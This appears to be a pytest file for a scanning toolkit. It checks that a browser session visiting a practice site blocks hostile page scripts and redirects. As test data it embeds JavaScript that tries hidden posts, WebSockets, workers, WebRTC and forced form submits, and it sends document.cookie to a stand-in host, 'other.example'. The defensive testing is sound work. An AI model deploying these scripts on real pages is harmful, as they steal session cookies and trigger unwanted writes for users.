"""Pages that try to write or to leak: the log of the practice toolkit shows that nothing came through."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from dsptscan.errors import GuardStopped, ToolkitUnavailable
from dsptscan.practice import Answer, PracticeToolkit
from dsptscan.practice.pages import login_page
from dsptscan.toolkit.session import Session
from tests.toolkit.conftest import SignIn, arrived
from tests.toolkit.site import LIST, page, write_site

QUIET_PARTS = """
<img src="/Assessment/Publish?img"><img src="https://other.example/x.png"><link rel="prefetch" href="/Q/prefetched">
<link rel="preload" as="fetch" href="/Q/preloaded"><link rel="stylesheet" href="/Assessment/Delete.css">
<link rel="stylesheet" href="https://other.example/x.css"><link rel="manifest" href="/manifest">
<iframe src="/Help"></iframe><noscript><iframe src="https://other.example/"></iframe><img src="/noscript"></noscript>
<object data="/object"></object><embed src="/embed"><video src="/video" autoplay></video>
<script type="speculationrules">{"prerender":[{"source":"list","urls":["/Q/rules"],"eagerness":"immediate"}],
"prefetch":[{"source":"list","urls":["/Q/rules2"],"eagerness":"immediate"}]}</script>
<script>fetch('/script', {method: 'POST'}); new WebSocket('ws://' + location.host + '/socket');</script>
<a href="javascript:fetch('/link', {method: 'POST'})">x</a><a href="/Q/9" target="_blank" ping="/ping">y</a>
"""
# Everything a sign-in page with scripts can try as it is shown and as it is left, short of moving to another page.
SCRIPTS = """
const post = path => fetch(path, {method: 'POST', body: 'x'}).catch(() => 0);
const safely = act => { try { act(); } catch { } };
const socket = path => safely(() => new WebSocket('ws://' + location.host + path));
post('/fetch'); socket('/socket');
safely(() => { const x = new XMLHttpRequest(); x.open('POST', '/xhr'); x.send('x'); });
safely(() => new EventSource('/events'));
safely(() => navigator.sendBeacon('/beacon', 'x'));
safely(() => new Worker(URL.createObjectURL(new Blob([`
  fetch('${location.origin}/blob', {method: 'POST'}); new WebSocket('ws://${location.host}/blobsocket')`]))));
safely(() => new Worker('/worker.js'));
safely(() => new SharedWorker('/shared.js'));
safely(() => navigator.serviceWorker.register('/service.js').catch(() => 0));
safely(() => { const f = document.createElement('iframe'); document.body.append(f);
  const d = f.contentDocument; new f.contentWindow.WebSocket('ws://' + location.host + '/framesocket');
  d.body.innerHTML = '<form method=post action=/frameform></form>'; });
safely(() => { const r = document.createElement('script'); r.type = 'speculationrules';
  r.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['/later'], eagerness: 'immediate'}],
    prefetch: [{source: 'list', urls: ['/later2'], eagerness: 'immediate'}]}); document.head.append(r); });
safely(() => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + location.port}]});
  c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)); });
safely(() => { new Image().src = '/pixel?' + document.cookie; });
safely(() => { new Image().src = 'https://other.example/?' + document.cookie; });
for (const end of ['pagehide', 'beforeunload', 'unload', 'visibilitychange']) addEventListener(end, () => {
  navigator.sendBeacon('/left-beacon', 'x'); fetch('/left-keepalive', {method: 'POST', keepalive: true, body: 'x'}); });
safely(() => { const a = document.createElement('a'); a.href = '#here'; a.ping = '/ping'; document.body.append(a);
  a.click(); });
safely(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://other.example/x.css';
  document.head.append(l); });
safely(() => { const s = document.createElement('script'); s.src = 'https://other.example/x.js';
  document.head.append(s); });
safely(() => { const f = document.createElement('iframe'); f.srcdoc = '<form method=post action=/srcdoc></form>' +
  '<script>document.forms[0].submit()</' + 'script>'; document.body.append(f); });
document.forms[0]?.addEventListener('submit', () => {
  navigator.sendBeacon('/submit-beacon', 'x'); fetch('/submit', {method: 'POST', keepalive: true, body: 'x'}); });
document.title = 'scripts ran';
"""


def hostile_login(toolkit: PracticeToolkit, script: str, head: str = "") -> None:
    """A sign-in page that only shows its form by script, with `script` beside it."""
    cookie, hidden = toolkit.desk.new_form()
    form = login_page(hidden, "").decode().partition("<form")[2].partition("</form>")[0]
    shown = f"document.getElementById('here').innerHTML = `<form{form}</form>`;"
    html = page(f"<h1>Log in</h1><div id=here></div><script>{shown}{script}</script>", head)
    headers = (("Set-Cookie", f"__RequestVerificationToken={cookie}; HttpOnly"),)
    toolkit.extra["GET /Account/Login"] = Answer(200, html.encode(), headers, open_to_all=True)


# The list is drawn from data that a script asks the toolkit for.
DRAWN = """
fetch('/data').then(answer => answer.json()).then(refs => { document.getElementById('here').innerHTML =
  refs.map((ref, i) => `<li><a class=red href="/Q/${i + 1}">${ref} Invented</a>`).join(''); });
"""


@pytest.fixture
def drawn(tmp_path: Path) -> Iterator[PracticeToolkit]:
    """A toolkit whose list a script draws. What else that script does, a test adds with `also`."""
    with PracticeToolkit(write_site(tmp_path / "layout")) as running:
        running.extra["/data"] = Answer(200, b'["1.1.1", "1.1.2"]', content_type="application/json")
        also(running, "")
        yield running


def also(toolkit: PracticeToolkit, script: str) -> None:
    toolkit.extra["/assessment"] = page(f"<h1>Assessment</h1><ul id=here></ul><script>{DRAWN}{script}</script>")


def read_on(session: Session, opened: str, fetched: str) -> None:
    """Read on, whatever the guard says, as a careless caller would."""
    with contextlib.suppress(GuardStopped):
        session.open(opened)
    list(session.fetch([fetched]))


def test_a_list_page_that_tries_everything_quietly(tmp_path: Path, sign_in: SignIn) -> None:
    site = write_site(tmp_path / "layout", list=page(LIST + QUIET_PARTS))
    with PracticeToolkit(site) as toolkit, sign_in(toolkit) as session:
        listed = session.open("/Assessment")
        read = list(session.fetch(["/Q/1", "/Q/2"]))
        assert listed.link_colours["/Q/1"] == "rgb(200, 10, 20)"
        assert all("</html>" in str(found.html) for found in read)
        assert sorted(arrived(toolkit)) == sorted(session.sent)
        assert {path for method, path in session.sent} == {
            "/Account/Login",
            "/Home",
            "/Content/style.css",
            "/Assessment",
            "/Q/1",
            "/Q/2",
        }
        assert session.refused["another site"] >= 2
        assert session.refused["a frame"] >= 1


def test_a_sign_in_page_whose_scripts_try_everything(toolkit: PracticeToolkit, sign_in: SignIn) -> None:
    rules = '{"prefetch":[{"source":"list","urls":["/rules"],"eagerness":"immediate"}]}'
    hostile_login(toolkit, SCRIPTS, f'<script type="speculationrules">{rules}</script>')
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", int(toolkit.url.rpartition(":")[2])))
        stun.setblocking(False)
        with sign_in(toolkit) as session:
            assert [found.url for found in session.fetch(["/Q/1"])] == [f"{toolkit.url}/Q/1"]
            sent = session.sent
        with pytest.raises(BlockingIOError):
            stun.recv(1)
    assert sorted(arrived(toolkit)) == sorted(sent)
    assert [path for _, path in sent] == [*["/Account/Login"] * 3, "/Home", "/Content/style.css", "/Q/1"]
    assert [request.path for request in toolkit.log if request.method != "GET"] == ["/Account/Login"]


MOVES = [
    "location = '/Assessment/Publish';",
    "const f = document.createElement('form'); f.method = 'post'; f.action = '/Account/Register';"
    "document.body.append(f); f.submit();",
    "window.open('/Assessment/Publish');",
]


@pytest.mark.parametrize("script", [MOVES[0], *(pytest.param(script, marks=pytest.mark.slow) for script in MOVES[1:])])
def test_a_sign_in_page_that_moves_to_another_page(toolkit: PracticeToolkit, sign_in: SignIn, script: str) -> None:
    hostile_login(toolkit, script)
    with pytest.raises(GuardStopped), sign_in(toolkit):
        pass
    assert set(arrived(toolkit)) <= {("GET", "/Account/Login")}


def test_a_question_that_redirects_to_a_confirm_page(toolkit: PracticeToolkit, sign_in: SignIn) -> None:
    toolkit.extra["/q/1"] = Answer(302, headers=(("Location", "/Assessment/Confirm"),))
    with pytest.raises(GuardStopped), sign_in(toolkit) as session:
        read_on(session, "/Q/1", "/Q/2")
    assert arrived(toolkit)[-1] == ("GET", "/Q/1")


@pytest.mark.slow
def test_a_list_that_redirects_to_a_publish_page(toolkit: PracticeToolkit, sign_in: SignIn) -> None:
    toolkit.extra["/assessment"] = Answer(302, headers=(("Location", "/Assessment/Publish"),))
    with pytest.raises(GuardStopped), sign_in(toolkit) as session:
        session.open("/Assessment")
    assert arrived(toolkit)[-1] == ("GET", "/Assessment")


@pytest.mark.slow
@pytest.mark.parametrize("where", ["list", "home"])
def test_a_page_that_refreshes_to_a_publish_path(tmp_path: Path, sign_in: SignIn, where: str) -> None:
    hostile = page(LIST, '<meta http-equiv="refresh" content="0; url=/Assessment/Publish">')
    site = write_site(tmp_path / "layout", **{where: hostile})
    with PracticeToolkit(site) as toolkit:
        with pytest.raises(GuardStopped), sign_in(toolkit) as session:
            read_on(session, "/Assessment", "/Q/1")
        assert not [path for _, path in arrived(toolkit) if "Publish" in path]


def test_a_policy_that_forbids_fetch_and_one_that_reports(tmp_path: Path, sign_in: SignIn) -> None:
    strict = page(LIST).encode()
    policy = ("Content-Security-Policy", "default-src 'none'; report-uri /report")
    with PracticeToolkit(write_site(tmp_path / "layout")) as toolkit:
        toolkit.extra["/assessment"] = Answer(200, strict, (policy, ("Speculation-Rules", '"/rules.json"')))
        with sign_in(toolkit) as session:
            session.open("/Assessment")
            assert len(list(session.fetch(["/Q/1", "/Q/2"]))) == 2
            refused = session.refused
        assert not {"/report", "/rules.json"} & {path for _, path in arrived(toolkit)}
        assert refused["a browser's report"] >= 1


@pytest.mark.slow
@pytest.mark.parametrize("where", ["/assessment", "/q/1"])
def test_a_policy_on_the_questions_and_on_the_list(toolkit: PracticeToolkit, sign_in: SignIn, where: str) -> None:
    headers = (("Content-Security-Policy", "default-src 'none'; sandbox; report-uri /report"),)
    toolkit.extra[where] = Answer(200, page(LIST).encode(), headers)
    with sign_in(toolkit) as session:
        session.open("/Assessment")
        assert [str(found.html).count("</html>") for found in session.fetch(["/Q/1", "/Q/2"])] == [1, 1]
    assert "/report" not in {path for _, path in arrived(toolkit)}


def test_a_stylesheet_that_asks_for_more(tmp_path: Path, sign_in: SignIn) -> None:
    site = write_site(tmp_path / "layout")
    more = '@import "https://other.example/x.css"; @import "/Assessment/Publish";'
    (tmp_path / "layout" / "style.css").write_text(
        more + "a { background: url(/pixel); color: rgb(1, 2, 3) } @font-face { font-family: x; src: url(/font) }"
    )
    with PracticeToolkit(site) as toolkit, sign_in(toolkit) as session:
        assert session.open("/Assessment").link_colours["/Q/2"] == "rgb(1, 2, 3)"
    assert sorted(arrived(toolkit)) == sorted(session.sent)
    assert not {"/Assessment/Publish", "/pixel", "/font"} & {path for _, path in arrived(toolkit)}


def test_pages_that_are_downloads(toolkit: PracticeToolkit, sign_in: SignIn, tmp_path: Path) -> None:
    headers = (("Content-Disposition", "attachment; filename=answers.xlsx"),)
    toolkit.extra["/q/1"] = Answer(200, b"PK", headers, content_type="application/octet-stream")
    with sign_in(toolkit) as session:
        first, second = session.fetch(["/Q/1", "/Q/2"])
        assert (first.html, bool(first.unread), bool(second.html)) == ("", True, True)
        with pytest.raises(ToolkitUnavailable):
            session.open("/Q/1?as=list")
    assert list(tmp_path.rglob("*answers*")) == []


@pytest.mark.slow
def test_a_list_drawn_by_script(drawn: PracticeToolkit, sign_in: SignIn) -> None:
    with sign_in(drawn) as session:
        assert "1.1.2" not in str(session.open("/Assessment").html)
        shown = session.open_with_scripts("/Assessment")
        assert ("1.1.2 Invented" in str(shown.html), shown.link_colours["/Q/1"]) == (True, "rgb(200, 10, 20)")
        assert session.open("/Assessment") is shown
        assert [str(found.html).count("</html>") for found in session.fetch(["/Q/1", "/Q/2"])] == [1, 1]
    assert sorted(arrived(drawn)) == sorted(session.sent)
    assert [path for _, path in arrived(drawn)].count("/data") == 1
    assert drawn.writes == []


def test_a_list_whose_scripts_try_everything(drawn: PracticeToolkit, sign_in: SignIn) -> None:
    also(drawn, SCRIPTS + "fetch('/Assessment/Publish'); fetch('/Q/Delete?1'); fetch('/data', {method: 'PUT'});")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", int(drawn.url.rpartition(":")[2])))
        stun.setblocking(False)
        with sign_in(drawn) as session:
            session.open("/Assessment")
            assert "1.1.2 Invented" in str(session.open_with_scripts("/Assessment").html)
            assert len(list(session.fetch(["/Q/1"]))) == 1
        with pytest.raises(BlockingIOError):
            stun.recv(1)
    assert sorted(arrived(drawn)) == sorted(session.sent)
    asked = [path for _, path in session.sent if path not in ("/Account/Login", "/Home", "/Content/style.css")]
    assert sorted(set(asked)) == ["/Assessment", "/Q/1", "/data"]
    assert session.refused["a script's own post"] >= 3
    assert [path for method, path in session.sent if method != "GET"] == ["/Account/Login"]


def read_drawn(session: Session) -> None:
    session.open("/Assessment")
    with contextlib.suppress(GuardStopped):
        session.open_with_scripts("/Assessment")
    session.open("/Q/1")


@pytest.mark.parametrize("script", [*(pytest.param(script, marks=pytest.mark.slow) for script in MOVES[:2]), MOVES[2]])
def test_a_list_whose_scripts_move_to_another_page(drawn: PracticeToolkit, sign_in: SignIn, script: str) -> None:
    also(drawn, script)
    with pytest.raises(GuardStopped), sign_in(drawn) as session:
        read_drawn(session)
    meant = {"/Account/Login", "/Home", "/Content/style.css", "/Assessment", "/data"}
    assert {path for _, path in arrived(drawn)} <= meant
    assert [method for method, _ in arrived(drawn)].count("POST") == 1
